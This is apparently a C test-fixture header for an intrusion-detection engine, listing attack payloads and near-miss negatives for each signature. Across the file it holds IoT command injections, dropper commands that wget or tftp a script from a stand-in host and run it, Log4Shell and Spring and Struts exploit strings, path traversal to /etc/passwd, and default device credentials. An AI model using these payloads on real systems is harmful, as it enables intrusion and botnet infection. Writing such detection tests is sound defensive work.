/* payload_rows_more: further forms of what the rules name: bodies and headers in segments of their own, other options, methods and
 * encodings; and what is off by a little. */
#ifndef TEST_PAYLOAD_ROWS_MORE_H
#define TEST_PAYLOAD_ROWS_MORE_H

#include "test/payload_row.h"

/* clang-format off */
#define SOAP_BEGINS "<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" " \
    "SOAP-ENV:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"> <SOAP-ENV:Body>  "

static const struct payload_row payload_rows_more[] = {
PAYLOAD_ROW("iot-tr064-injection", TCP, 7547, true,
    SOAP_BEGINS "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">  ")
PAYLOAD_ROW("iot-tr064-injection", TCP, 7547, false,
    SOAP_BEGINS "<u:GetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">  ")
PAYLOAD_ROW("iot-huawei-hg532-exploit", TCP, 37215, true,
    SOAP_BEGINS "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">")
PAYLOAD_ROW("iot-huawei-hg532-exploit", TCP, 37215, false,
    SOAP_BEGINS "<u:GetInfo xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, true,
    "soapaction:\thttp://purenetworks.com/HNAP1/`telnetd`\r\nConnection: close\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, true,
    "POST / HTTP/1.1\r\nSOAPAction: 'http://purenetworks.com/HNAP1/`telnetd`'\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, true,
    "POST /web/cgi-bin/hnap/hnap_service HTTP/1.1\r\nHost: 192.0.2.1\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, false,
    "XSOAPAction: http://purenetworks.com/HNAP1/\r\nConnection: close\r\n")
PAYLOAD_ROW("iot-cctv-swedish", TCP, 81, true,
    "GET /language/Swedish$IFS&&echo$IFS1>/tmp/x HTTP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-cctv-swedish", TCP, 81, false,
    "GET /language/Swedish/IFS HTTP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-zynos-rom0", TCP, 80, true,
    "GET http://192.0.2.1//rom-0 HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("iot-zynos-rom0", TCP, 80, false,
    "GET /?q=/rom-0 HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "username=admin&psd=stdONU101")
PAYLOAD_ROW("iot-boaform", TCP, 80, false,
    "username=admin&pwd=stdONU101")
PAYLOAD_ROW("iot-netis-wf2419", TCP, 80, true,
    "mode_name=netcore_set&tools_type=2&tools_ip_url=|+id&tools_cmd=1&net_tools_set=1&wlan_idx_num=0")
PAYLOAD_ROW("iot-netis-wf2419", TCP, 80, false,
    "mode_name=netcore_get&no=no")
PAYLOAD_ROW("iot-zyxel-nas", TCP, 80, true,
    "GET /cgi-bin/weblogin.cgi?username=admin%27%3Bls HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("iot-zyxel-nas", TCP, 80, false,
    "GET /cgi-bin/weblogin.cgi?username=admin&password=o%27neil HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 23, true,
    ">/tmp/.x && cd /tmp;/bin/busybox\trm .x\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.9/bins.sh; sh bins.sh")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "GET /x?a=cd+/tmp+%7C%7C+cd+/var/run;wget+http://192.0.2.9/bins.sh HTTP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "cd /tmp && cd /var/run; ls")
PAYLOAD_ROW("iot-telnet-dropper", TCP, 23, true,
    "wget http://192.0.2.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n")
PAYLOAD_ROW("iot-telnet-dropper", TCP, 2323, true,
    "cd /tmp; tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh\r\n")
PAYLOAD_ROW("iot-telnet-dropper", TCP, 23, true,
    "cd /tmp; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh\r\n")
PAYLOAD_ROW("iot-telnet-dropper", TCP, 23, false,
    "wget --help\r\n")
PAYLOAD_ROW("iot-telnet-dropper", TCP, 80, false,
    "wget http://192.0.2.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, true,
    "BB\000\000BBBBcd /tmp; wget http://192.0.2.9/x\000")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, false,
    "BB\000\000BBBBcd /home\000")
PAYLOAD_ROW("iot-dahua-discovery", UDP, 37810, true,
    " \000\000\000")
PAYLOAD_ROW("iot-dahua-discovery", UDP, 37810, false,
    " \000\000\000\000")
PAYLOAD_ROW("iot-rtsp", TCP, 10554, true,
    "OPTIONS /live.sdp RTSP/1.0\r\nCSeq: 1\r\n\r\n")
PAYLOAD_ROW("iot-rtsp", TCP, 554, true,
    "RECORD rtsp://192.0.2.1/a b RTSP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-rtsp", TCP, 554, true,
    "SET_PARAMETER * RTSP/2.0\r\n\r\n")
PAYLOAD_ROW("iot-rtsp", TCP, 80, false,
    "OPTIONS http://192.0.2.1/?u=rtsp:// HTTP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-coap", UDP, 5683, true,
    "@\007\000\001")
PAYLOAD_ROW("iot-coap", UDP, 5683, false,
    "@\010\000\001")
PAYLOAD_ROW("iot-snmp", UDP, 161, true,
    "0\204\000\000\000&\002\001\001\004\006public\240")
PAYLOAD_ROW("iot-snmp", UDP, 161, false,
    "0\205\000\000\000\000&\002\001\001\004\006public\240")
PAYLOAD_ROW("iot-sip", UDP, 5060, true,
    "\r\nPUBLISH sip:100@192.0.2.1 SIP/2.0\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5060, false,
    "\r\nPUBLISHED sip:100@192.0.2.1 SIP/2.0\r\n")
PAYLOAD_ROW("iot-dlink-ssdp", UDP, 1900, true,
    "M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:urn:device:1;telnetd\r\nMX:2\r\n\r\n")
PAYLOAD_ROW("iot-dlink-ssdp", UDP, 1900, true,
    "M-SEARCH * HTTP/1.1\r\nst: uuid:`telnetd`\r\n\r\n")
PAYLOAD_ROW("iot-dlink-ssdp", UDP, 1900, false,
    "M-SEARCH * HTTP/1.1\r\nST:urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nMAN:\"a;b\"\r\n\r\n")
PAYLOAD_ROW("iot-huawei-hg532-exploit", TCP, 40000, false,
    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Digest realm=\"HuaweiHomeGateway\", nonce=\"1\"\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 40000, false,
    "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n#!/bin/sh\ncd /tmp || cd /var/run; wget http://192.0.2.9/"
    "x.mips; ")
PAYLOAD_ROW("iot-busybox", TCP, 40000, false,
    "HTTP/1.1 200 OK\r\n\r\n#!/bin/sh\n/bin/busybox wget http://192.0.2.9/x")
PAYLOAD_ROW("iot-tr064-injection", TCP, 40000, false,
    "<u:SetNTPServersResponse xmlns:u=\"urn:dslforum-org:service:Time:1\"/>")
PAYLOAD_ROW("iot-tr064-injection", TCP, 40000, false,
    "<u:GetInfoResponse xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>ntp.example.org</NewNTPServer1"
    ">")
PAYLOAD_ROW("iot-vacron", TCP, 80, false,
    "GET /bbs/board.cgi?cmd=list HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-avtech", TCP, 80, false,
    "GET /cgi-bin/user/profile.cgi?id=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-boaform", TCP, 80, false,
    "username=bob&psd=secret")
PAYLOAD_ROW("iot-hikvision-weblanguage", TCP, 80, false,
    "<language>en;q=1</language>")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, false,
    "{\"type\": \"DEVICE.ACCOUNTING\"}")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "GET /search?q=curl+http://example.org/linux-arm HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 25, false,
    "wget https://example.org/releases/tool-linux-arm\r\n")
PAYLOAD_ROW("container-docker", TCP, 80, false,
    "GET /images/logo.png HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 80, false,
    "GET /images/search?q=json HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 80, false,
    "GET /exec/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 80, false,
    "GET /containers/green-box.html HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-vacron", TCP, 80, true,
    "GET http://192.0.2.1:80/board.cgi?cmd=id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-vacron", TCP, 80, true,
    "GET //board.cgi?cmd=id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "username=root&psd=123456\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "POST /x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\na=1;wget http://bins.example.org/x.mips; chmod 777 x.mips")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "GET /x?ip=wget+http://bins.example.org/arm7+-O+/tmp/x HTTP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 23, true,
    "tftp 192.0.2.9 -c get bot.arm5; chmod 777 bot.arm5\r\n")
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "GET /containers/json?all=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "POST /containers/4f2a9c/start HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "POST /images/create?fromImage=alpine&tag=latest HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "POST /swarm/join HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-spring", TCP, 8080, true,
    "POST /x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first."
    "suffix=.jsp")
PAYLOAD_ROW("web-spring", TCP, 8080, true,
    "POST /functionRouter HTTP/1.1\r\nspring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime()"
    ".exec(\"wget http://192.0.2.9/x.arm7\")\r\n")
PAYLOAD_ROW("web-spring", TCP, 8080, true,
    "POST /actuator/gateway/routes/hack HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-spring", TCP, 8080, false,
    "GET /actuator/gateway/routes HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-spring", TCP, 8080, false,
    "class.module.loader=1")
PAYLOAD_ROW("web-spring", TCP, 8080, false,
    "spring.cloud.function.routing: x")
PAYLOAD_ROW("web-confluence", TCP, 8090, true,
    "GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%7D/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-confluence", TCP, 8090, true,
    "POST /pages/createpage-entervariables.action?SpaceKey=x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-confluence", TCP, 8090, true,
    "POST /template/aui/text-inline.vm HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-confluence", TCP, 8090, false,
    "GET /%24%7Bname%7D/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-confluence", TCP, 8090, false,
    "GET /pages/createpage.action?SpaceKey=x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-weblogic-request", TCP, 7001, true,
    "POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-weblogic-request", TCP, 7001, true,
    "POST /_async/AsyncResponseService HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-weblogic-request", TCP, 7001, true,
    "GET /console/css/%252E%252e%252fconsole.portal HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-weblogic-request", TCP, 7001, false,
    "GET /console/css/login.css HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-hadoop-yarn", TCP, 8088, true,
    "POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-hadoop-yarn", TCP, 8088, true,
    "POST /ws/v1/cluster/apps HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n{\"am-container-spec\":{\"commands\":{\"command"
    "\":\"wget http://192.0.2.9/x.arm7\"}}}")
PAYLOAD_ROW("web-hadoop-yarn", TCP, 8088, false,
    "GET /ws/v1/cluster/apps HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-exchange", TCP, 443, true,
    "GET /autodiscover/autodiscover.json?@192.0.2.1/owa/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-exchange", TCP, 443, true,
    "GET /autodiscover/autodiscover.json?a=b@example.org/mapi/nspi/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-exchange", TCP, 443, false,
    "GET /autodiscover/autodiscover.json/v1.0/a%40b.org?Protocol=ActiveSync HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-php-cgi", TCP, 80, true,
    "POST /cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C+%6E HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-php-cgi", TCP, 80, true,
    "POST /cgi-bin/php5?%2Dd+allow_url_include%3Don HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-php-cgi", TCP, 80, false,
    "GET /cgi-bin/php?%2D%64+%61%62%63 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, true,
    "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1\r\nHost: 192.0.2.1"
    "\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, true,
    "POST /mgmt/tm/util/bash HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, true,
    "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, true,
    "GET /dana-na/../dana/html5acc/guacamole/../../etc/passwd HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, true,
    "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\nHost: 192.0.2.1\r\n\r"
    "\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, false,
    "GET /remote/fgt_lang?lang=en HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, false,
    "GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-gateway", TCP, 443, false,
    "GET /vpn/index.html HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("infrastructure-omi", TCP, 5986, true,
    "<p:ExecuteShellCommand_INPUT xmlns:p=\"http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"
    "\"><p:command>id")
PAYLOAD_ROW("infrastructure-omi", TCP, 5986, true,
    "<w:ResourceURI>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem</w:ResourceURI>")
PAYLOAD_ROW("infrastructure-omi", TCP, 5985, false,
    "<w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI>")
PAYLOAD_ROW("windows-http-sys", TCP, 80, true,
    "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept-Encoding: doar-e, ftw, imo, ,\r\n\r\n")
PAYLOAD_ROW("windows-http-sys", TCP, 80, false,
    "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept-Encoding: gzip, deflate\r\n\r\n")
PAYLOAD_ROW("windows-http-sys", TCP, 80, false,
    "Accept-Encoding: a, b, ,\r\n")
PAYLOAD_ROW("web-drupal", TCP, 80, true,
    "POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1\r\n"
    "Host: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-drupal", TCP, 80, false,
    "POST /user/register?element_parents=account/mail&ajax_form=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-vmware-access", TCP, 443, true,
    "GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-vmware-access", TCP, 443, false,
    "GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=%2524%257Bjndi:ldap://192.0.2.9/a%257D HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "{\"user\":\"$\\u007bjndi:ldap://192.0.2.9/a}\"}")
PAYLOAD_ROW("web-log4shell", TCP, 8080, false,
    "{\"user\":\"$\\u007bname}\"}")
PAYLOAD_ROW("web-spring", TCP, 8080, true,
    "GET /?class%2Emodule%2EclassLoader%2Eresources=x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-struts", TCP, 80, true,
    "POST /login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder())} HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("web-struts", TCP, 80, false,
    "GET /login.action?redirect=/home HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-tr064-injection", TCP, 7547, true,
    "<u:GetSecurityKeys xmlns:u=\"urn:dslforum-org:service:WLANConfiguration:1\"></u:GetSecurityKeys>")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 80, true,
    "GET /diag.html?images/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 80, false,
    "GET /diag.html?image=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, true,
    "<soap:Body><Login xmlns=\"http://purenetworks.com/HNAP1/\"><Action>request</Action>")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 40000, false,
    "<soap:Body><LoginResponse xmlns=\"http://purenetworks.com/HNAP1/\"><LoginResult>OK")
PAYLOAD_ROW("iot-avtech", TCP, 80, true,
    "GET /cgi-bin/user/Config.cgi?.cab&action=get&category=Account.* HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-avtech", TCP, 80, true,
    "DoShellCmd \"strCmd=wget http://192.0.2.9/x&sh x\"")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, true,
    "POST /goform/formWlanMP HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, true,
    "submit-url=%2Fsyscmd.htm&sysCmd=wget+http&save_apply=Run+Command")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, false,
    "mySysCmd=1&sysCmd=&x=1")
PAYLOAD_ROW("iot-draytek", TCP, 443, true,
    "action=login&keyPath=%27%0A%2fbin%2fcat%24%7bIFS%7d&loginUser=a&loginPwd=a")
PAYLOAD_ROW("iot-draytek", TCP, 443, false,
    "action=login&keyPath=AB12&loginUser=a&loginPwd=a")
PAYLOAD_ROW("iot-tvt-dvr", TCP, 4567, true,
    "{D79E94C5-70F0-46BD-965B-E17497CCB598}")
PAYLOAD_ROW("iot-tvt-dvr", TCP, 4567, false,
    "{D79E94C5-70F0-46BD-965B-E17497CCB599}")
PAYLOAD_ROW("iot-netgear-board-data", TCP, 80, true,
    "POST /boardDataWW.php HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\nmacAddress=112233445566;wget http://192.0.2.9/a#&re"
    "ginfo=0")
PAYLOAD_ROW("iot-netgear-board-data", TCP, 80, false,
    "POST /boardDataWW.html HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-sercomm-backdoor", TCP, 32764, true,
    "ScMM\000\000\000\001\000\000\000\000")
PAYLOAD_ROW("iot-sercomm-backdoor", TCP, 32764, true,
    "MMcS\007\000\000\000\004\000\000\000id\000\000")
PAYLOAD_ROW("iot-sercomm-backdoor", TCP, 40000, false,
    "ScMM\377\377\377\377\000\000\000\000")
PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, true,
    "POST /dvr/cmd HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n<?xml version=\"1.0\"?><DVR Platform=\"Hi3520\">")
PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, true,
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><DVR Platform=\"Hi3520\"><SetConfiguration File=\"service.xml\">")
PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, false,
    "GET /dvr/cmds HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-lilin-dvr", TCP, 80, false,
    "<DVR Platform=\"x86\">")
PAYLOAD_ROW("iot-asus-infosvr", UDP, 9999, true,
    "\014\0253\000abcdefghijABCDEFGHIJKLMNOPQRSTUVWXYZ012345\035\000wget http://192.0.2.9/mips; sh mips\000")
PAYLOAD_ROW("iot-asus-infosvr", UDP, 9999, false,
    "\014\025\037\000\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("iot-asus-infosvr", UDP, 9998, false,
    "\014\0253\000abcdefghijABCDEFGHIJKLMNOPQRSTUVWXYZ012345\003\000ls\000")
PAYLOAD_ROW("iot-tenda-udp", UDP, 7329, true,
    "w302r_mfg\000x/bin/ls")
PAYLOAD_ROW("iot-tenda-udp", UDP, 7329, false,
    "w303r_mfg\000x/bin/ls")
PAYLOAD_ROW("iot-xiongmai-dvrip", TCP, 34567, true,
    "\377\000\000\000\000\000\000\000\000\000\000\000\000\000\350\003_\000\000\000{ \"EncryptType\" : \"MD5\", \""
    "LoginType\" : \"DVRIP-Web\", \"PassWord\" : \"tlJwpbo6\", \"UserName\" : \"admin\" }\n")
PAYLOAD_ROW("iot-xiongmai-dvrip", TCP, 34567, true,
    "\377\001\000\000\000\000\000\000\000\000\000\000\000\000\350\003_\000\000\000{\"UserName\":\"admin\",\"PassW"
    "ord\":\"\"}\n\000")
PAYLOAD_ROW("iot-xiongmai-dvrip", TCP, 40000, false,
    "\377\001\000\000\000\000\000\000\000\000\000\000\000\000\351\003_\000\000\000{\"AliveInterval\":21,\"Channel"
    "Num\":1,\"DeviceType \":\"DVR\"}\n\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "STLS\000\000\000\001\000\000\000\000\000\000\000\000\000\000\000\000\254\253\263\254")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "AUTH\003\000\000\000\000\000\000\000\004\000\000\000\000\000\000\000\276\252\253\267abcd")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, false,
    "AUTH\001\000\000\000\000\000\000\000\004\000\000\000\000\000\000\000\276\252\253\267abcd")
PAYLOAD_ROW("iot-broadcom-cgi", TCP, 80, true,
    "GET /sntpcfg.cgi?ntp_enabled=1&ntpServer1=`id` HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-broadcom-cgi", TCP, 80, false,
    "GET /sntpcfg.html?ntp=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-broadcom-cgi", TCP, 80, true,
    "GET /pingHost.cmd?action=add&targetHostAddress=;ps|sh&sessionKey=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-broadcom-cgi", TCP, 80, false,
    "GET /pingHost.cmd?action=view HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-technicolor-ping", TCP, 80, true,
    "GET /mnt_ping.cgi?isSubmit=1&addrType=3&pingAddr=;id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-technicolor-ping", TCP, 80, false,
    "GET /mnt_ping.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-3com-utility", TCP, 80, true,
    "GET /utility.cgi?testType=1&IP=aaa||id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-3com-utility", TCP, 80, false,
    "GET /utility.cgi?test=1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-xfinity-diagnostic", TCP, 80, true,
    "POST /actionHandler/ajax_network_diagnostic_tools.php HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-xfinity-diagnostic", TCP, 80, false,
    "GET /network_diagnostic_tools.php HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-beward", TCP, 80, true,
    "GET /cgi-bin/operator/servetest?cmd=id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-beward", TCP, 80, false,
    "GET /cgi-bin/operator/param?action=list HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-flir", TCP, 80, true,
    "POST /page/maintenance/lanSettings/dns HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-flir", TCP, 80, false,
    "GET /page/maintenance/lanSettings HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-acti", TCP, 80, true,
    "GET /cgi-bin/test?iperf=;id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-acti", TCP, 80, false,
    "GET /cgi-bin/test?x=iperf HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-eyelock", TCP, 80, true,
    "GET /scripts/rpc.php?action=updatetime&timeserver=||id HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-eyelock", TCP, 80, false,
    "GET /scripts/rpc.php?action=gettime HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n")
PAYLOAD_ROW("iot-hongdian", TCP, 80, true,
    "op_type=ping&destination=%3Bid&user_options=")
PAYLOAD_ROW("iot-hongdian", TCP, 80, false,
    "op_type=ping&destination=192.0.2.1&user_options=")
};
#undef SOAP_BEGINS
/* clang-format on */

#endif
